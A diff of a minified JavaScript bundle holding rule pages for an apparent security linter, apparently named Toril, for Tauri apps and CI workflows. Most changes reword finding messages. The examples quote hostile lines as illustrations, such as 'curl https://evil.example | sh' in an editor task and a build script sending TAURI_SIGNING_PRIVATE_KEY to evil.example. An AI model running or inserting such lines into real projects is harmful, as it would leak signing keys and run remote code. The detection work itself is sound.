@@ -1,6 +1,6 @@
 var __defProp=Object.defineProperty;var __getOwnPropDesc=Object.getOwnPropertyDescriptor;var __getOwnPropNames=Object.getOwnPropertyNames;var __hasOwnProp=Object.prototype.hasOwnProperty;var __export=(target,all)=>{for(var name in all)__defProp(target,name,{get:all[name],enumerable:!0})},__copyProps=(to,from,except,desc)=>{if(from&&typeof from==
 "object"||typeof from=="function")for(let key of __getOwnPropNames(from))!__hasOwnProp.call(to,key)&&key!==except&&__defProp(to,key,{get:()=>from[key],enumerable:!(desc=
-__getOwnPropDesc(from,key))||desc.enumerable});return to};var __toCommonJS=mod=>__copyProps(__defProp({},"__esModule",{value:!0}),mod);var stdin_exports={};__export(stdin_exports,{rulePage:()=>rulePage});module.exports=__toCommonJS(stdin_exports);var import_shared_acegprst=require("./shared.acegprst.js"),
+__getOwnPropDesc(from,key))||desc.enumerable});return to};var __toCommonJS=mod=>__copyProps(__defProp({},"__esModule",{value:!0}),mod);var stdin_exports={};__export(stdin_exports,{rulePage:()=>rulePage});module.exports=__toCommonJS(stdin_exports);var import_shared_acegoprst=require("./shared.acegoprst.js"),
 pages={"build/action-unpinned":`# A job runs an action that no commit pins: \`build/action-unpinned\`
 
 Severity: medium; high where the job is given what signs the app.
@@ -40,7 +40,7 @@ Pin it: \`uses: owner/action@<40 digits> # v1.2.3\`. Dependabot and Renovate kee
          env:
 \`\`\`
 
-job \`release\` of \`release.yml\` newly runs \`uses: evil/publish@main\`, whatever that is at the time:
+Job \`release\` of \`release.yml\` newly runs \`uses: evil/publish@main\`, which no commit pins:
 
 \`\`\`
 uses: evil/publish@main
@@ -97,7 +97,7 @@ Read it as you would read code.
 +Run the tests before you commit.
 \`\`\`
 
-\`AGENTS.md\` tells agents something else:
+\`AGENTS.md\` gives coding agents other instructions:
 
 \`\`\`
 AGENTS.md
@@ -306,7 +306,7 @@ Commit the files as the build should have them.
 +writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
 \`\`\`
 
-\`scripts/version.mjs\` newly writes what the app may do: \`writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));\`:
+\`scripts/version.mjs\` newly writes files that decide what the app may do: \`writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));\`:
 
 \`\`\`
 writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
@@ -745,7 +745,7 @@ Read what it runs before you open the branch.
 +}
 \`\`\`
 
-\`a task of the editor\` newly starts \`curl https://evil.example | sh\` for whoever opens the repository:
+A task of the editor newly starts \`curl https://evil.example | sh\` for whoever opens the repository:
 
 \`\`\`
 curl https://evil.example | sh
@@ -802,7 +802,7 @@ Look at what changed.
  }
 \`\`\`
 
-\`npm run test\` runs something else: \`vitest run\`:
+\`npm run test\` newly runs \`vitest run\`:
 
 \`\`\`
 vitest run
@@ -957,7 +957,7 @@ Give it to the one step that needs it.
 -          TAURI_SIGNING_PRIVATE_KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}
 \`\`\`
 
-job \`release\` of \`release.yml\` newly gives \`TAURI_SIGNING_PRIVATE_KEY\` to all of its steps:
+Job \`release\` of \`release.yml\` newly gives \`TAURI_SIGNING_PRIVATE_KEY\` to all of its steps:
 
 \`\`\`
 env: TAURI_SIGNING_PRIVATE_KEY  # could read TAURI_SIGNING_PRIVATE_KEY
@@ -1078,7 +1078,7 @@ Look at what changed. Write commands so that they can be read: a computed one ca
    }
 \`\`\`
 
-\`beforeBuildCommand\` runs something else: \`tsc\`:
+\`beforeBuildCommand\` newly runs \`tsc\`:
 
 \`\`\`
 tsc
@@ -1139,7 +1139,7 @@ Pin what is fetched by a hash or a version, or fetch it in a job without keys.
 +const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
 \`\`\`
 
-\`scripts/build.mjs\` newly does \`const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);\`:
+\`scripts/build.mjs\` newly reaches out of the build: \`const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);\`:
 
 \`\`\`
 const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
@@ -1207,7 +1207,7 @@ Write \`permissions: {}\` at the top of the workflow, and give scopes to single 
    release:
 \`\`\`
 
-job \`release\` of \`release.yml\` may newly write: \`contents: write\`:
+Job \`release\` of \`release.yml\` newly has a token that may write: \`contents: write\`:
 
 \`\`\`
 contents: write  # could read TAURI_SIGNING_PRIVATE_KEY
@@ -1273,7 +1273,7 @@ Take the program from where the project has it, and pin it.
        - uses: actions/checkout@v5
 \`\`\`
 
-job \`release\` of \`release.yml\` newly builds with \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example\`:
+Job \`release\` of \`release.yml\` newly builds with \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example\`:
 
 \`\`\`
 TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example  # could read TAURI_SIGNING_PRIVATE_KEY
@@ -1335,7 +1335,7 @@ Name an exact version. Download files to disk and check their hash before you ru
        - run: npx tauri build
 \`\`\`
 
-job \`release\` of \`release.yml\` newly runs \`curl -sSf https://get.example/tool.sh | bash\`:
+Job \`release\` of \`release.yml\` newly runs \`curl -sSf https://get.example/tool.sh | bash\`, which nothing pins:
 
 \`\`\`
 curl -sSf https://get.example/tool.sh | bash  # could read TAURI_SIGNING_PRIVATE_KEY
@@ -1404,7 +1404,7 @@ Build pull requests in jobs of the event \`pull_request\`. Hand texts over as \`
        - uses: other/tagged@v1
 \`\`\`
 
-job \`release\` of \`release.yml\` newly runs what strangers write: \`actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}\`:
+Job \`release\` of \`release.yml\` newly runs what strangers write: \`actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}\`:
 
 \`\`\`
 actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}  # could read TAURI_SIGNING_PRIVATE_KEY
@@ -1474,7 +1474,7 @@ Keep \`allowDowngrades\` at \`false\`.
  }
 \`\`\`
 
-Any installer of the app can newly put an older release in the place of a newer one on Windows:
+Any installer of the app can newly replace a newer release by an older one on Windows:
 
 \`\`\`
 notes-1.0.0-setup.exe /S
@@ -1762,7 +1762,7 @@ Leave the update task off, and let updates ask. Install for the current person u
    }
 \`\`\`
 
-Any program of an administrator can newly install what it puts into \`%TEMP%\` as the system, without being asked on Windows:
+Any program that an administrator runs can newly have what it puts into \`%TEMP%\` installed with the rights of the system, without a prompt, on Windows:
 
 \`\`\`
 schtasks /run /tn "Update notes - Skip UAC"
@@ -2178,7 +2178,7 @@ Keep the certificate of the app, and say in the pull request when it is renewed.
    }
 \`\`\`
 
-The app can newly be built without a signer by \`bundle.macOS.signingIdentity\` on macOS:
+The app can newly be built without a signer, by \`bundle.macOS.signingIdentity\`, on macOS:
 
 \`\`\`
 codesign --sign -
@@ -2254,7 +2254,7 @@ Leave the browser to the system, which updates it, and name the least release th
  }
 \`\`\`
 
-The app can newly show its pages in the browser in \`./webview2\`, which nobody updates on Windows:
+The app can newly show its pages in the browser in \`./webview2\`, which nobody updates, on Windows:
 
 \`\`\`
 ./webview2/msedgewebview2.exe
@@ -2392,7 +2392,7 @@ Nothing has to be done. If no page needs a command, leave it out of the list tha
          .unwrap();
 \`\`\`
 
-Pages can newly call \`wave\` with what they choose:
+Pages can newly call \`wave\` with arguments that they choose:
 
 \`\`\`
 invoke("wave", {"hand":"\u2026","times":"\u2026"})
@@ -2978,7 +2978,7 @@ Serve the pages on the same machine.
  }
 \`\`\`
 
-Pages of \`http://192.168.1.10:1420\` can newly be the app on the machines of developers, with everything that is granted to its pages:
+Pages of \`http://192.168.1.10:1420\` can newly act as the app on the machines of developers, with everything that is granted to its pages:
 
 \`\`\`
 tauri dev # GET http://192.168.1.10:1420/
@@ -3178,7 +3178,7 @@ Leave the setting away: by default the engine is in the bundle.
    }
 \`\`\`
 
-Whoever sets the app's environment or writes the library that it names can newly put in the browser engine that the app loads:
+Whoever sets the app's environment or writes the library that it names can newly replace the browser engine that the app loads:
 
 \`\`\`
 TAURI_CEF_LIBRARY_PATH=/tmp/libcef.so notes
@@ -3816,7 +3816,7 @@ Any website can newly open the app with a link that begins with \`notes://\` on 
 location.href = 'notes://anything'
 \`\`\`
 
-### It says nothing when a default is written out
+### It says nothing when a default is written out and paths are narrowed
 
 \`src-tauri/tauri.conf.json\`:
 
@@ -4013,7 +4013,7 @@ Read in the plugin's documentation what the key does.
    }
 \`\`\`
 
-A plugin can newly do what \`vault.dangerousAllowAll: true\` tells it:
+A plugin can newly act by \`vault.dangerousAllowAll: true\`, which Toril doesn't know:
 
 \`\`\`
 plugins.vault.dangerousAllowAll
@@ -4219,7 +4219,7 @@ Ship the pages with the app. To show a site, open it in a window of its own, wit
  }
 \`\`\`
 
-Pages of \`https://app.example.com\` can newly be the app, with everything that is granted to its own pages:
+Pages of \`https://app.example.com\` can newly act as the app, with everything that is granted to its own pages:
 
 \`\`\`
 GET https://app.example.com/notes
@@ -6295,7 +6295,7 @@ Ask for what the app uses.
  </plist>
 \`\`\`
 
-The app can newly ask the person for what it could not ask for before, by \`NSCameraUsageDescription\` on macOS and iOS:
+The app can newly ask people for the camera, by \`NSCameraUsageDescription\`, on macOS and iOS:
 
 \`\`\`
 plutil -p Info.plist # NSCameraUsageDescription
@@ -6358,7 +6358,7 @@ Leave out what the app can do without. Ask for the smallest of several permissio
  </plist>
 \`\`\`
 
-The app can newly reach files outside of its container, by \`com.apple.security.files.all\` on macOS:
+The app can newly reach files outside of its container, by \`com.apple.security.files.all\`, on macOS:
 
 \`\`\`
 codesign -d --entitlements - Notes.app # com.apple.security.files.all
@@ -6425,7 +6425,7 @@ Remove the key. Sign the libraries that the app loads with its own team, so that
  </plist>
 \`\`\`
 
-Any program of the same person can newly have the app load its libraries, by \`com.apple.security.cs.disable-library-validation\` on macOS:
+Any program that the same person runs can newly have the app load its libraries, by \`com.apple.security.cs.disable-library-validation\`, on macOS:
 
 \`\`\`
 codesign -d --entitlements - Notes.app # com.apple.security.cs.disable-library-validation
@@ -6460,7 +6460,7 @@ way can read and change, or trusts certificates that people add.
 
 ## Why it matters
 
-Anyone on the way can change what a server sends: scripts of pages, updates, data.
+Anyone on the network path can change what a server sends: scripts of pages, updates, data.
 
 ## What to do
 
@@ -6489,7 +6489,7 @@ Use \`https:\`. For a server in development, allow it in debug builds alone.
  }
 \`\`\`
 
-Anyone on the way can newly read and change what the app exchanges with \`example.com\` and all below it on macOS:
+Anyone on the network path can newly read and change what the app exchanges with \`example.com\` and all below it on macOS:
 
 \`\`\`
 GET http://example.com/
@@ -7097,7 +7097,7 @@ Add the half that is missing, or take out the one that is there. Leave it if the
  }
 \`\`\`
 
-No crate of the app answers the calls of \`@tauri-apps/plugin-fs 2.3.0\`:
+\`@tauri-apps/plugin-fs 2.3.0\` is in the pages, without its crate in the app:
 
 \`\`\`
 npm ci  # takes @tauri-apps/plugin-fs 2.3.0, and no tauri-plugin-fs answers it
@@ -7615,8 +7615,10 @@ Severity: high.
 
 Since: 0.1.0
 
-A change edits \`.github/toril.yml\`, so that something passes which fails by the policy of today: a threshold rises, a rule is turned off or weighs less, a gap n\
-o longer closes the gate, a source or a package is newly trusted, or the policy only observes.
+A change edits \`.github/toril.yml\`, or a workflow that runs Toril, so that something passes which fails by the policy of today: a threshold rises, a rule is tur\
+ned off or weighs less, a gap no longer closes the gate, a source or a package is newly trusted, the organisation's policy is no longer asked for or lets reposi\
+tories be looser, or the policy only observes. Of a workflow: it no longer runs Toril, or only for some events, branches, paths or on a condition; its failing n\
+o longer counts; its input \`fail-on\` gets laxer; or a tag, a branch or another owner newly decides what it runs.
 
 ## Why it matters
 
@@ -7630,6 +7632,8 @@ Merge it only if those who decide on the app's security want it. Give \`/.github
 ## When it says nothing
 
 - The policy gets stricter, or means what it meant.
+- A workflow takes another full commit of the same action, gets other steps, or moves. A job that is called otherwise lets nothing pass: a branch that requires \
+it by its name then waits for it, and stays closed.
 - \`comment-from\` alone changes: it decides where a finding is shown, and not whether it fails.
 
 ## Examples
@@ -7987,7 +7991,7 @@ Use HTTPS with an ordinary certificate, also inside a company.
    }
 \`\`\`
 
-Whoever is on the way between the app and its update server can newly answer the updater with any certificate:
+Anyone on the network path to the update server can newly answer the updater with any certificate:
 
 \`\`\`
 curl --insecure https://example.com/latest.json
